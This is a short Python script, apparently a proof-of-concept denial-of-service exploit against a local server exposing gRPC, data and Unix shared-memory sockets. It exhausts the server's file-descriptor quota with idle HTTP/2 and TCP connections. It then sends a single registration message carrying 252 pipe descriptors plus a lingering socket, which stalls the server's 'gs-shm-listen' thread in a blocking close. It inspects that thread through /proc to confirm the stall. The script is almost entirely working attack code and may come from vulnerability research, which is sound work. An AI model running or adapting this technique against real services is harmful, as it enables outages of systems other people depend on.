# Larger limits: first fill the gRPC port's share (3/8, idle HTTP/2 connections, no token) and the data
# port's (1/8, idle TCP), then ONE registration message of 252 pipes + 1 lingering socket (last) from a
# user with nothing held: the server cannot install all 253, the kernel closes the lingering socket on
# the gs-shm-listen thread, which blocks for l_linger seconds.   usage: NAME LIMIT LINGER
import sys, time, os, socket
from shm import *
name = sys.argv[1]; LIM = int(sys.argv[2]); L = int(sys.argv[3]); path = f"/tmp/atk2/{name}/shm.sock"; p = pid(name); P = ports(name)
hold = []
for i in range(LIM * 3 // 8 + 4):
    s = socket.socket(); s.connect(("127.0.0.1", P["grpc_port"])); s.sendall(PREFACE + SETTINGS); hold.append(s)
for i in range(LIM // 8 + 4):
    s = socket.socket(); s.connect(("127.0.0.1", P["data_port"])); hold.append(s)
time.sleep(1); print("after TCP fill: server fds", nfd(p))
rp, wp = os.pipe(); c, n = linger_socket(L)
s = conn(path); send_fds(s, rec(4096), [rp] * 252 + [c.fileno()]); c.close(); time.sleep(1)
for t in os.listdir(f"/proc/{p}/task"):
    if open(f"/proc/{p}/task/{t}/comm").read().strip() == "gs-shm-listen":
        print("gs-shm-listen wchan:", open(f"/proc/{p}/task/{t}/wchan").read(), "syscall", open(f"/proc/{p}/task/{t}/syscall").read().split()[0])
for s2 in hold: s2.close()
time.sleep(2.5)
t = time.time()
for k in range(3):
    r, dt, rs = register(path, timeout=4); print(" +%.0fs (TCP fill closed) memfd registration: %s %s | fds %d | health %s" % (time.time() - t, r[0], str(r[1])[:40], nfd(p), health(P["health_port"])[:1]))
    time.sleep(1)
